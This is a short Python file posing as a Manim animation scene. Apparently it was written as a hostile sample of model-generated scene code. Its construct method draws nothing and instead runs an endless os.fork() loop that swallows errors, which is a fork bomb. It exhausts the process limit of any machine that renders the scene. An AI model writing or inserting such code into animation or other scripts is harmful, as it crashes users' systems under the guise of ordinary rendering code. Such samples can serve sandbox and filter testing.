# ruff: noqa: F403, F405  (scene code as a model writes it: star import)
import os
import time

from manim import *


class Hostile(Scene):
    def construct(self):
        # Every process keeps forking and swallows the errors: only the pid limit holds it.
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)
